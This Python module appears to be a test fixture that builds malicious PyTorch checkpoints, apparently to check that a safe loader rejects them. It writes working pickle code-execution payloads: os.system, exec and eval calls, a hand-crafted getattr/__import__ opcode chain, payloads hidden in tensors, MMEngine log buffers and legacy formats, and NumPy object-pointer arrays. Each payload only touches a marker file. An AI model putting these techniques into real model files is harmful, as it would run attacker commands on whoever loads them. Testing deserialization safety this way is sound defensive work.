"""Checkpoints that would run code in Python's unpickler, built as attackers build them."""

import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer

CORE = getattr(np, '_core', None) or np.core  # NumPy 1 uses the other name


class Call:
    """Pickles as a call."""

    def __init__(self, function, *arguments, state=None):
        self.call = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.call

    def __call__(self):
        """Only so that pickle takes it for something that can be called: what it pickles as is called instead."""


class Storage:
    """Pickles as a persistent id, as tensors do."""

    def __init__(self, *pid):
        self.pid = pid


def touch(mark: Path) -> Call:
    return Call(os.system, f'touch {mark}')


def content(payload: object) -> dict:
    return {'state_dict': {'w': torch.zeros(2)}, 'meta': payload}


def saved(payload: object, legacy: bool = False) -> bytes:
    buffer = io.BytesIO()
    torch.save(content(payload), buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def zipped(pickled: bytes, **more: bytes) -> bytes:
    """A torch.save file with a custom pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as file:
        for name, data in {'data.pkl': pickled, 'byteorder': b'little', 'data/0': bytes(8), 'version': b'3\n', **more}.items():
            file.writestr(f'archive/{name}', data)
    return buffer.getvalue()


def pickled_storage(pid: tuple) -> bytes:
    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            return obj.pid if isinstance(obj, Storage) else None

    buffer = io.BytesIO()
    Pickler(buffer, 2).dump({'state_dict': {'w': Storage(*pid)}})
    return buffer.getvalue()


def getattr_chain(mark: Path) -> bytes:
    """getattr(__import__('os'), 'system')(...), written by hand, in protocol 2."""
    return (
        b'\x80\x02}X\x0a\0\0\0state_dictcbuiltins\ngetattr\ncbuiltins\n__import__\nX\x02\0\0\0os\x85R'
        b'X\x06\0\0\0system\x86R' + b'X' + struct.pack('<I', len(f'touch {mark}')) + f'touch {mark}'.encode() + b'\x85Rs.'
    )


def old_instruction(mark: Path) -> bytes:
    """The INST instruction of protocol 0, which names and calls a function at once."""
    return f"(dS'state_dict'\n(S'touch {mark}'\nios\nsystem\ns.".encode()


def tar_file(mark: Path) -> bytes:
    """The format of PyTorch 0.1: a tar of pickles."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode='w') as tar:
        for name in ('storages', 'tensors', 'pickle'):
            data = pickle.dumps(touch(mark), 2)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def twice_in_the_zip(mark: Path) -> bytes:
    buffer = io.BytesIO(saved({}))
    with zipfile.ZipFile(buffer) as file:
        name = next(entry for entry in file.namelist() if entry.endswith('data.pkl'))
    with zipfile.ZipFile(buffer, 'a') as file:
        file.writestr(name, pickle.dumps(content(touch(mark)) | {'state_dict': {}}, 2))
    return buffer.getvalue()


def history_state(mark: Path) -> bytes:
    """A log buffer, which is allowed, whose state is a call."""
    return saved(Call(HistoryBuffer, state={'_statistics_methods': {'mean': touch(mark)}}))


def numpy_array(call: Call) -> bytes:
    return saved({'note': call})


def array_of_pointers(dtype: object) -> Call:
    """An array whose bytes NumPy would treat as object pointers."""
    return Call(CORE.multiarray._reconstruct, np.ndarray, (0,), b'b', state=(1, (2,), dtype, False, b'A' * 16))


NUMPY_KINDS = {
    'dtype with object fields': array_of_pointers(
        Call(np.dtype, 'f8', False, True, state=(3, '<', None, ('f',), {'f': (Call(np.dtype, 'O', False, True), 0)}, -1, -1, 1))
    ),
    'dtype with flags': array_of_pointers(Call(np.dtype, 'f8', False, True, state=(3, '<', None, None, None, -1, -1, 1))),
    'dtype of objects': array_of_pointers(Call(np.dtype, 'O', False, True, state=(3, '|', None, None, None, -1, -1, 63))),
    'array of objects over bytes': Call(np.ndarray, (2,), 'O', b'A' * 16),
    'array class of the dtype': Call(type(np.dtype('f8'))),
    'scalar of objects': Call(CORE.multiarray.scalar, Call(np.dtype, 'O', False, True), b'A' * 8),
    'array of lists': Call(
        CORE.multiarray._reconstruct,
        np.ndarray,
        (0,),
        b'b',
        state=(1, (1,), Call(np.dtype, 'f8', False, True), False, [touch(Path('mark'))]),
    ),
    'array larger than its bytes': Call(
        CORE.multiarray._reconstruct,
        np.ndarray,
        (0,),
        b'b',
        state=(1, (1 << 40,), Call(np.dtype, 'f8', False, True), False, b'A' * 16),
    ),
}


def history_method(mark: Path) -> bytes:
    """The getattr that MMEngine's log buffers need, of the module's globals: there is os."""
    return saved(Call(Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__globals__'), 'os', touch(mark)))


BUILDERS: dict[str, Callable[[Path], bytes]] = {
    'os.system': lambda mark: saved(touch(mark)),
    'exec': lambda mark: saved(Call(exec, f'open({str(mark)!r}, "w").close()')),
    'eval': lambda mark: saved(Call(eval, f'open({str(mark)!r}, "w")')),
    'getattr chain': lambda mark: zipped(getattr_chain(mark)),
    'protocol 0': lambda mark: zipped(old_instruction(mark)),
    'inside a tensor': lambda mark: zipped(
        pickle.dumps({'state_dict': {'w': Call(torch._utils._rebuild_tensor_v2, touch(mark), 0, (1,), (1,), False, {})}}, 2)
    ),
    'inside a log buffer': lambda mark: saved(Call(HistoryBuffer, touch(mark))),
    'state of a log buffer': history_state,
    'method of a log buffer': history_method,
    'inside an array': lambda mark: saved(
        Call(CORE.multiarray._reconstruct, np.ndarray, (0,), b'b', state=(1, (1,), np.dtype('O'), False, [touch(mark)]))
    ),
    'scalar of objects': lambda mark: saved(Call(CORE.multiarray.scalar, np.dtype('O'), touch(mark))),
    'storage within a storage': lambda mark: saved(Call(torch.storage._load_from_bytes, saved(touch(mark)))),
    'type of a storage': lambda mark: zipped(pickled_storage(('storage', touch(mark), '0', 'cpu', 2))),
    'before PyTorch 1.6': lambda mark: saved(touch(mark), legacy=True),
    'before PyTorch 0.4': tar_file,
    'bare pickle': lambda mark: pickle.dumps(content(touch(mark)) | {'state_dict': {}}),
    'same name twice': twice_in_the_zip,
    'TorchScript': lambda mark: zipped(pickle.dumps(touch(mark), 2), **{'constants.pkl': pickle.dumps(touch(mark), 2)}),
}
